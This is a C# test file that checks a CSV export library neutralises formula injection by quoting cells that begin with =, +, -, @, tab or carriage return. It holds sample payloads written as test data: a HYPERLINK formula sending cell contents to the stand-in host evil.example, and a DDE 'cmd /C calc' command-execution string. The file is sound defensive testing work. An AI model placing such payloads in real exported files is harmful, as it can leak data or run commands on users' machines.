// Source: OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): prefix cells that begin
// with = + - @ tab or carriage return with a single quote; issue #16 "Exports and audit"; docs/operations.md.
using Microsoft.EntityFrameworkCore;
using Shouldly;
using Stroma.Data.Demo;
using Stroma.Data.Export;

namespace Stroma.Data.Tests;

public sealed class CsvInjectionTests
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("-", "'-")]
    [InlineData("-5", "-5")]
    [InlineData("+1.5", "+1.5")]
    [InlineData("-2.1e-3", "-2.1e-3")]
    [InlineData("-.5", "-.5")]
    [InlineData("SH1-001", "SH1-001")]
    [InlineData("", "")]
    public void Neutralise_FormulaStartsQuoted_PlainNumbersAndTextKept(string cell, string written) =>
        SafeCsvWriter.Neutralise(cell).ShouldBe(written);

    [Theory]
    [MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task Export_FormulaAsStudyId_WrittenAsInertText(DatabaseEngine engine)
    {
        await using var database = await TestDatabase.CreateAsync(engine);
        const string hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        await using (var db = database.Open("demo"))
        {
            await DemoRegistry.CreateAsync(db, new DemoOptions(Patients: 2, Seed: 3), Token);
            var patient = await db.Patients.OrderBy(p => p.StudyId).FirstAsync(Token);
            patient.StudyId = hostile;
            db.ChangeReason = "Probe";
            await db.SaveChangesAsync(Token);
        }

        var directory = Directory.CreateTempSubdirectory("stroma-export-").FullName;
        try
        {
            await CsvExport.WriteAsync(database.Configuration, directory, Token);

            var patients = await File.ReadAllTextAsync(Path.Combine(directory, "patients.csv"), Token);
            patients.ShouldContain("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\"");
            foreach (var file in Directory.GetFiles(directory, "*.csv"))
            {
                var text = await File.ReadAllTextAsync(file, Token);
                text.ShouldNotContain(",=", customMessage: file);
                text.ShouldNotContain(",\"=", customMessage: file);
            }
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }
}
